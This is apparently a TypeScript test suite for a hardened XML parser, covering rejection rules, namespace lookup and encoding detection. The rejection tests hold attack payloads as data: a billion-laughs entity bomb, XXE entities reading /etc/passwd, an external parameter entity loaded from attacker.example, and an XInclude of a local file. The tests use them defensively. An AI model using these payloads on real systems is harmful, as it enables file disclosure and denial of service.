import { expect } from 'chai';
import {
  attr,
  child,
  children,
  descendants,
  elementSource,
  find,
  findAll,
  findText,
  lookupNamespace,
  namespace,
  parseXml,
  text,
  XmlParseError,
  type XmlRejectionReason,
} from '../../../shared/xml/index.js';
import { InvalidRecordError } from '../../../shared/errors/index.js';

function rejection(input: string | Uint8Array, limits = {}): XmlParseError {
  try {
    parseXml(input, limits);
  } catch (error) {
    expect(error).to.be.instanceOf(XmlParseError);
    expect(error).to.be.instanceOf(InvalidRecordError);
    return error as XmlParseError;
  }
  throw new Error('document was accepted');
}

function expectRejected(
  input: string,
  reason: XmlRejectionReason,
  pattern: RegExp,
  limits = {},
): void {
  const error = rejection(input, limits);
  expect(error.reason).to.equal(reason);
  expect(error.message).to.match(pattern);
  expect(error.code).to.equal('INVALID_RECORD');
  expect(error.status).to.equal(400);
}

describe('safe XML parsing (shared/xml)', () => {
  describe('rejections', () => {
    it('rejects a plain DOCTYPE', () => {
      expectRejected('<!DOCTYPE note><note/>', 'doctype', /DOCTYPE declarations are not allowed/);
    });

    it('rejects entity declarations (billion laughs)', () => {
      const lol = [
        '<?xml version="1.0"?>',
        '<!DOCTYPE lolz [',
        '  <!ENTITY lol "lol">',
        '  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">',
        '  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">',
        '  <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">',
        ']>',
        '<lolz>&lol9;</lolz>',
      ].join('\n');
      expectRejected(lol, 'entity-declaration', /declares entities/);
    });

    it('rejects external entities (XXE)', () => {
      const xxe =
        '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>';
      expectRejected(xxe, 'external-reference', /external entity/);
      const parameter =
        '<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><foo/>';
      expectRejected(parameter, 'external-reference', /external entity/);
    });

    it('rejects an external DTD', () => {
      expectRejected(
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>',
        'external-reference',
        /external DTD/,
      );
    });

    it('rejects XInclude elements', () => {
      expectRejected(
        '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></a>',
        'external-reference',
        /XInclude/,
      );
    });

    it('rejects documents over the size limit, for strings and bytes', () => {
      const xml = `<a>${'x'.repeat(2000)}</a>`;
      expectRejected(xml, 'too-large', /larger than the limit of 1000 bytes/, { maxBytes: 1000 });
      const error = rejection(Buffer.from(xml), { maxBytes: 1000 });
      expect(error.reason).to.equal('too-large');
      // Multi-byte characters count as bytes, not UTF-16 units.
      expectRejected(`<a>${'é'.repeat(600)}</a>`, 'too-large', /larger/, { maxBytes: 1000 });
      expect(parseXml(`<a>${'é'.repeat(400)}</a>`, { maxBytes: 1000 }).root.local).to.equal('a');
    });

    it('rejects nesting beyond the depth limit', () => {
      const deep = `${'<a>'.repeat(50)}${'</a>'.repeat(50)}`;
      expectRejected(deep, 'too-deep', /deeper than the limit of 20/, { maxDepth: 20 });
      expect(parseXml(deep, { maxDepth: 50 }).root.local).to.equal('a');
      // The default limit stops pathological nesting without blowing the stack.
      const pathological = `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`;
      expect(rejection(pathological).reason).to.equal('too-deep');
    });

    it('rejects documents with more elements than the limit', () => {
      const wide = `<a>${'<b/>'.repeat(100)}</a>`;
      expectRejected(wide, 'too-large', /more than the limit of 50 elements/, { maxElements: 50 });
      expect(parseXml(wide, { maxElements: 101 }).root.children).to.have.length(100);
    });

    it('rejects malformed XML, unknown entities and unbound prefixes', () => {
      expectRejected('<a><b></a>', 'malformed', /not well-formed/);
      expectRejected('<a>&nbsp;</a>', 'malformed', /undefined entity/);
      expectRejected('<p:a/>', 'malformed', /unbound namespace prefix/);
      expectRejected('{"type":"Feature"}', 'malformed', /not XML|not well-formed/);
      expectRejected('', 'malformed', /not XML|no root element/);
    });
  });

  describe('namespaces', () => {
    const xml = [
      '<?xml version="1.0" encoding="UTF-8"?>',
      '<x:root xmlns:x="urn:one" xmlns="urn:default" xmlns:at="urn:attr">',
      '  <item at:kind="k1" plain="p1">first &amp; <![CDATA[<raw>]]></item>',
      '  <x:item>second</x:item>',
      '  <y:item xmlns:y="urn:one">third</y:item>',
      '  <wrapper xmlns:x="urn:two"><x:item>fourth</x:item></wrapper>',
      '  <inner xmlns="urn:three"><item>fifth</item></inner>',
      '</x:root>',
    ].join('\n');
    const one = namespace('urn:one');
    const def = namespace('urn:default');
    const two = namespace('urn:two');
    const three = namespace('urn:three');

    it('addresses elements by namespace URI, whatever the prefix', () => {
      const { root } = parseXml(xml);
      expect([root.ns, root.local, root.prefix]).to.deep.equal(['urn:one', 'root', 'x']);
      expect(children(root, one('item')).map((item) => text(item))).to.deep.equal([
        'second',
        'third',
      ]);
      expect(text(child(root, def('item')))).to.equal('first & <raw>');
      expect(findText(root, def('wrapper'), two('item'))).to.equal('fourth');
      expect(findText(root, three('inner'), three('item'))).to.equal('fifth');
      expect(find(root, def('inner'), def('item'))).to.equal(undefined);
      expect(findAll(root, def('item'))).to.have.length(1);
      expect(descendants(root, { ns: '*', local: 'item' })).to.have.length(5);
    });

    it('reads attributes by namespace URI and local name', () => {
      const { root } = parseXml(xml);
      const item = child(root, def('item'));
      expect(attr(item, 'urn:attr', 'kind')).to.equal('k1');
      expect(attr(item, '', 'plain')).to.equal('p1');
      expect(attr(item, '', 'kind')).to.equal(undefined);
      expect(item?.attributes.some((a) => a.local === 'xmlns' || a.prefix === 'xmlns')).to.equal(
        false,
      );
    });

    it('resolves prefixes in scope and cuts out standalone element sources', () => {
      const document = parseXml(xml);
      const wrapper = child(document.root, def('wrapper'));
      const fourth = child(wrapper, two('item'));
      expect(lookupNamespace(fourth!, 'x')).to.equal('urn:two');
      expect(lookupNamespace(fourth!, '')).to.equal('urn:default');
      const source = elementSource(document, fourth!);
      expect(source).to.match(/^<x:item xmlns:x="urn:two"/);
      const reparsed = parseXml(source).root;
      expect([reparsed.ns, reparsed.local, text(reparsed)]).to.deep.equal([
        'urn:two',
        'item',
        'fourth',
      ]);
      expect(elementSource(document, document.root)).to.equal(xml.slice(xml.indexOf('<x:root')));
    });

    it('decodes bytes using the BOM or the declared encoding', () => {
      const latin1 = Buffer.from(
        '<?xml version="1.0" encoding="ISO-8859-1"?><a>caf\u00e9</a>',
        'latin1',
      );
      expect(text(parseXml(latin1).root)).to.equal('café');
      const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<a>ü</a>')]);
      expect(text(parseXml(bom).root)).to.equal('ü');
      expect(
        rejection(Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0x3c, 0x2f, 0x61, 0x3e])).reason,
      ).to.equal('malformed');
    });
  });
});
